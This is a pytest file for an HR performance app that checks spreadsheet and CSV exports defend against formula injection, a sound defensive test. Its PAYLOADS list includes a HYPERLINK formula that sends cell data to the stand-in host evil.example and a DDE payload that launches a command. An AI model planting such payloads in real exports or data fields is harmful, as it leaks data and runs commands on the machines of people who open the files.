"""Exports as a formula-injection target: an indicator, a person or a task named like a formula must come back
from the xlsx as plain text (read back with openpyxl: no formula cell anywhere), and CSV cells get the same
rule from the same module."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from core.db import session_scope
from core.tables import Employee, Indicator, KpiAssignment
from tests.api.helpers import org_snapshot, person
from workflows.process.cells import FORMULA_START, csv_cell

PAYLOADS = ['=HYPERLINK("http://evil.example/leak?d="&B2,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture(scope="module")
def poisoned(demo_url: str) -> int:
    emp = person(org_snapshot(demo_url), "employee")
    with session_scope(demo_url) as s:
        ids = s.execute(select(KpiAssignment.indicator_id).where(KpiAssignment.employee_id == emp)).scalars()
        for payload, ind_id in zip(PAYLOADS, sorted(set(ids)), strict=False):
            ind = s.get(Indicator, ind_id)
            assert ind is not None
            ind.name_zh = ind.name_en = payload
        employee = s.get(Employee, emp)
        assert employee is not None
        employee.name_zh = employee.name_en = "=1+1\tevil"
    return emp


@pytest.mark.parametrize("kind", ["scorecard", "report"])
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_no_exported_cell_is_a_formula(client, tokens, poisoned: int, kind: str, lang: str) -> None:
    r = client.get(
        f"/api/v1/exports/{kind}",
        params={"employee_id": poisoned, "format": "xlsx", "lang": lang},
        headers=tokens["hr"],
    )
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
    texts = {c.value for c in risky}
    if kind == "scorecard":
        assert set(PAYLOADS) <= texts  # the names arrive intact, as text


def test_csv_cells_follow_the_same_rule() -> None:
    assert [csv_cell(v) for v in [*PAYLOADS, "\tx", "\rx", "ok", -5, 1.5, None]] == [
        *(f"'{p}" for p in PAYLOADS),
        "'\tx",
        "'\rx",
        "ok",
        -5,
        1.5,
        None,
    ]


def test_the_org_export_writes_a_formula_like_name_as_text(client, tokens, poisoned: int) -> None:
    """The org export (streamed, write-only workbook) follows the same rule: the poisoned name is text."""
    r = client.get("/api/v1/imports/org/export.xlsx", params={"lang": "zh"}, headers=tokens["admin"])
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(c.value == "=1+1\tevil" and c.data_type == "s" and c.quotePrefix for c in cells)
